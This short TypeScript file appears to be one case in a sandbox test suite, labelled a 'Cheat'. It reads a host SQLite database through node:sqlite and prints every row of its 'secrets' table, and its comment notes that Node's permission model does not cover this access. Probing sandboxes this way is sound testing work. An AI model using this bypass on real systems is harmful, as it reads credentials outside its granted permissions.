// Cheat: reads a database of the host's, by SQLite, which no permission of Node's reaches
// Works: unsealed
// Proof: loot

import { DatabaseSync } from "node:sqlite";
import { scene } from "./scene.ts";

const database = new DatabaseSync(scene.database, { readOnly: true });
console.log(JSON.stringify(database.prepare("select value from secrets").all()));
